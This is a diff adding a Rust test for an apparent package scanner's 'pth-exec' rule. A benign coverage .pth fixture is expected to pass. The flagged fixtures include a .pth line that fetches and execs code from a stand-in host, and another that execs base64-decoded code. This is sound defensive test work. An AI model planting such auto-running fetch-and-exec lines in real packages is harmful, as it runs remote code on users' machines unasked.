@@ -57,3 +57,26 @@ fn dev_tcp_port_probe_is_not_a_reverse_shell() {
         r.findings
     );
 }
+
+/// coverage: `a1_coverage.pth` execs a string literal holding an `if` that starts
+/// coverage measurement, because a .pth line cannot hold a statement block.
+#[test]
+fn pth_exec_of_a_plain_literal_is_judged_by_its_code() {
+    let r = sdist(&[(
+        "a1_demo.pth",
+        "import sys; exec('import os\\n\\nif os.getenv(\"DEMO_START\"):\\n try:\\n  import demo\\n except:\\n  pass\\n else:\\n  demo.process_startup(slug=\"pth\")')\n",
+    )]);
+    assert!(with_rule(&r, "pth-exec").is_empty(), "{:#?}", r.findings);
+    assert_clean(&r);
+    // The same shape around a download, or around decoded code, still runs unasked.
+    let r = sdist(&[(
+        "a1_demo.pth",
+        "import sys; exec('import urllib.request as u\\nexec(u.urlopen(\"https://x.invalid/p\").read())')\n",
+    )]);
+    assert!(!with_rule(&r, "pth-exec").is_empty(), "{:#?}", r.findings);
+    let r = sdist(&[(
+        "a1_demo.pth",
+        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
+    )]);
+    assert!(!with_rule(&r, "pth-exec").is_empty(), "{:#?}", r.findings);
+}
